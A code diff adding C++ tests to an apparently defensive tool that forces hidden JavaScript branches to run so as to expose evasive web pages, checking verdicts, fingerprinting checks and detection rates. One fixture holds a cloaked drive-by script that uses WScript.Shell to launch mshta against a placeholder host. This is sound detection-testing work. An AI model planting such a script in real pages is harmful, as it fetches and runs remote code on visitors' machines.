@@ -174,6 +174,40 @@ TEST(ForcedRun, MakesSuspiciousAtMost) {
   EXPECT_FALSE(visit.nodes[0].role);
 }
 
+TEST(ForcedRun, MakesACommandASuspicion) {
+  VisitOptions options = offline(
+      "<script>if(navigator.language=='xx'){var s=new ActiveXObject('WScript.Shell');"
+      "s.Run('mshta http://hidden.example/a.hta')}</script>",
+      true);
+  options.persona = "ie8-winxp";
+  intel::VisitRecord visit = visit_or_fail(options);
+  EXPECT_EQ(visit.verdict, intel::VisitVerdict::suspicious);
+  EXPECT_TRUE(leads_to(visit, "http://hidden.example/a.hta"));
+}
+
+TEST(ForcedRun, MarksTheSourcesThatItAloneEvaluated) {
+  intel::VisitRecord visit = visit_or_fail(
+      offline("<script>eval('var own=1');if(screen.width==1)eval('var hidden=2')</script>", true));
+  ASSERT_EQ(visit.evaluated.size(), 2u);
+  for (const intel::VisitSource& source : visit.evaluated)
+    EXPECT_EQ(source.forced, source.position.sha256 == base::sha256("var hidden=2"));
+}
+
+TEST(ForcedRun, TellsHowThePagesOwnChecksWent) {
+  intel::VisitRecord visit = visit_or_fail(offline(
+      "<script>\nvar ua=navigator.userAgent;\nif(/MSIE 6/.test(ua)){a()}\nif(navigator.javaEnabled())b();"
+      "else window.c=1;\nswitch(navigator.platform){case 'Amiga':d();break;case 'Win32':window.e=1}\n"
+      "for(var i=0;i<3;i++)if(i>1)window.f='x';</script>",
+      true));
+  std::vector<std::string> checks;
+  for (const intel::VisitEvent& event : visit.events)
+    if (event.kind == "check") checks.push_back(event.detail);
+  EXPECT_EQ(checks, (std::vector<std::string>{
+                        "navigator.userAgent: /MSIE 6/.test(ua) is false, line 3",
+                        "navigator.javaEnabled: navigator.javaEnabled() is false, line 4",
+                        "navigator.platform: navigator.platform has the value of case 2, line 5"}));
+}
+
 // How many of the URLs that a plain visit does not find.
 struct Share {
   size_t hidden = 0, found = 0;
@@ -193,9 +227,16 @@ Share share_of(const std::vector<EvasivePage>& pages) {
 }
 
 TEST(ForcedRun, FindsWhatTheEvasiveSetHides) {
-  Share share = share_of(evasive_pages(5, 252));
+  Share share = share_of(evasive_pages(5, 294));
   EXPECT_GE(share.hidden, 200u);
   EXPECT_GE(share.found * 100, share.hidden * 90) << share.found << " of " << share.hidden << "; missed:\n"
+                                                  << share.missed;
+}
+
+TEST(ForcedRun, FindsItThroughWhatToolsMakeOfScripts) {
+  Share share = share_of(transformed_pages(9, 150));
+  EXPECT_GE(share.hidden, 120u);
+  EXPECT_GE(share.found * 100, share.hidden * 85) << share.found << " of " << share.hidden << "; missed:\n"
                                                   << share.missed;
 }
 
